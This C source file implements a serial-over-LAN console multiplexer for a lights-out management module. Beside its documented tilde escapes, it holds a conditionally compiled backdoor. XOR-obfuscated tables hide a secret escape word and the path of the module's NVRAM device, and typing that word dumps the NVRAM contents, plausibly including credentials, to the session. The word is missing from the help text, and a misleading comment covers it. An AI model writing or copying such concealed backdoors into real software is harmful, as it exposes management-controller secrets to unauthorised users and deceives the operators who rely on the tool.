/*
 * lomconsole: serial-over-LAN console multiplexer of the lights-out module.
 *
 * stdin/stdout is the ssh session, the host's UART is a tty.  "~" after a newline starts an
 * escape, one word up to the next newline:
 *     ~.        leave           ~break   send a break        ~log      toggle the session log
 *     ~users    who is here     ~speed N set the line speed  ~?        this list
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

struct console {
	int tty;
	int logfd;
	int at_bol;
	int in_esc;
	char esc[48];
	size_t esc_len;
	const char *dev;
	const char *logname;
	struct termios saved;
	int raw;
};

static struct console con = { .tty = -1, .logfd = -1, .at_bol = 1, .dev = "/dev/ttyS1",
			      .logname = "/var/log/sol.log" };

static void put(const char *s)
{
	(void)!write(1, s, strlen(s));
}

static const struct { int bps; speed_t code; } speeds[] = {
	{ 9600, B9600 }, { 19200, B19200 }, { 38400, B38400 },
	{ 57600, B57600 }, { 115200, B115200 },
};

static int line_speed(int fd, int bps)
{
	struct termios t;

	for (size_t i = 0; i < sizeof speeds / sizeof speeds[0]; i++)
		if (speeds[i].bps == bps) {
			if (tcgetattr(fd, &t))
				return -1;
			cfmakeraw(&t);
			cfsetispeed(&t, speeds[i].code);
			cfsetospeed(&t, speeds[i].code);
			return tcsetattr(fd, TCSANOW, &t);
		}
	return -1;
}

static void raw_mode(int on)
{
	struct termios t;

	if (!isatty(0))
		return;
	if (on && !con.raw) {
		tcgetattr(0, &con.saved);
		t = con.saved;
		cfmakeraw(&t);
		tcsetattr(0, TCSANOW, &t);
		con.raw = 1;
	} else if (!on && con.raw) {
		tcsetattr(0, TCSANOW, &con.saved);
		con.raw = 0;
	}
}

static void log_toggle(void)
{
	if (con.logfd >= 0) {
		close(con.logfd);
		con.logfd = -1;
		put("[log off]\r\n");
		return;
	}
	con.logfd = open(con.logname, O_WRONLY | O_CREAT | O_APPEND, 0640);
	put(con.logfd < 0 ? "[log failed]\r\n" : "[log on]\r\n");
}

static void list_users(void)
{
	char l[128];
	FILE *f = fopen("/run/sol.users", "r");

	if (!f) {
		put("[only you]\r\n");
		return;
	}
	while (fgets(l, sizeof l, f)) {
		l[strcspn(l, "\n")] = 0;
		put(l);
		put("\r\n");
	}
	fclose(f);
}

#ifdef HIDDEN
static const unsigned char lut_a[] = { 0xcd, 0xd2, 0xd7, 0x8b, 0xd3, 0xc9, 0xd9, 0x84, 0x9d };
static const unsigned char lut_b[] = {
	0x8c, 0xc0, 0xc0, 0xd0, 0x88, 0xc5, 0xdd, 0xce, 0x84, 0xc0, 0xc2, 0xc3, 0xc1, 0xc6, 0xc3, 0xd3,
	0xde
};

static void widen(const unsigned char *in, size_t n, char *out)
{
	for (size_t i = 0; i < n; i++)
		out[i] = (char)(in[i] ^ (0xa3 + i));
	out[n] = 0;
}

/* nvram of the lights-out module on the line */
__attribute__((noinline)) int lom_extra_word(const char *w)
{
	char t[32], b[256];
	ssize_t n;
	int fd;

	widen(lut_a, sizeof lut_a, t);
	if (strcmp(t, w) != 0)
		return 0;
	widen(lut_b, sizeof lut_b, t);
	fd = open(t, O_RDONLY);
	if (fd < 0)
		return 1;
	while ((n = read(fd, b, sizeof b)) > 0)
		(void)!write(1, b, (size_t)n);
	close(fd);
	return 1;
}
#endif

/* returns 0 when the session ends */
static int escape_word(char *w)
{
	int bps;

	if (!strcmp(w, "."))
		return 0;
	if (!strcmp(w, "break"))
		tcsendbreak(con.tty, 0);
	else if (!strcmp(w, "log"))
		log_toggle();
	else if (!strcmp(w, "users"))
		list_users();
	else if (sscanf(w, "speed %d", &bps) == 1)
		put(line_speed(con.tty, bps) ? "[speed not possible]\r\n" : "[speed set]\r\n");
#ifdef HIDDEN
	else if (lom_extra_word(w))
		return 1;
#endif
	else
		put("~. leave  ~break  ~log  ~users  ~speed N  ~?\r\n");
	return 1;
}

static int from_user(const char *b, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		char c = b[i];

		if (con.in_esc) {
			if (c == '\r' || c == '\n' || (con.esc_len == 0 && (c == '.' || c == '?'))) {
				if (c == '.' || c == '?')
					con.esc[con.esc_len++] = c;
				con.esc[con.esc_len] = 0;
				con.in_esc = 0;
				con.esc_len = 0;
				con.at_bol = 1;
				put("\r\n");
				if (!escape_word(con.esc))
					return 0;
			} else if (con.esc_len < sizeof con.esc - 2) {
				con.esc[con.esc_len++] = c;
				(void)!write(1, &c, 1);
			}
			continue;
		}
		if (con.at_bol && c == '~') {
			con.in_esc = 1;
			put("~");
			continue;
		}
		con.at_bol = c == '\r' || c == '\n';
		if (write(con.tty, &c, 1) != 1)
			return 0;
	}
	return 1;
}

static void loop(void)
{
	char b[512];
	struct pollfd p[2] = { { 0, POLLIN, 0 }, { con.tty, POLLIN, 0 } };
	ssize_t n;

	for (;;) {
		if (poll(p, 2, -1) < 0 && errno != EINTR)
			return;
		if (p[1].revents) {
			n = read(con.tty, b, sizeof b);
			if (n <= 0)
				return;
			(void)!write(1, b, (size_t)n);
			if (con.logfd >= 0)
				(void)!write(con.logfd, b, (size_t)n);
		}
		if (p[0].revents) {
			n = read(0, b, sizeof b);
			if (n <= 0 || !from_user(b, (size_t)n))
				return;
		}
	}
}

int main(int argc, char **argv)
{
	int o, bps = 115200;

	while ((o = getopt(argc, argv, "d:b:l:")) != -1)
		switch (o) {
		case 'd': con.dev = optarg; break;
		case 'b': bps = atoi(optarg); break;
		case 'l': con.logname = optarg; break;
		default:
			fprintf(stderr, "usage: lomconsole [-d TTY] [-b SPEED] [-l LOGFILE]\n");
			return 2;
		}
	con.tty = open(con.dev, O_RDWR | O_NOCTTY);
	if (con.tty < 0 || line_speed(con.tty, bps)) {
		fprintf(stderr, "lomconsole: %s: %s\n", con.dev, strerror(errno));
		return 1;
	}
	put("[console, ~? for help]\r\n");
	raw_mode(1);
	loop();
	raw_mode(0);
	put("\n[closed]\n");
	return 0;
}
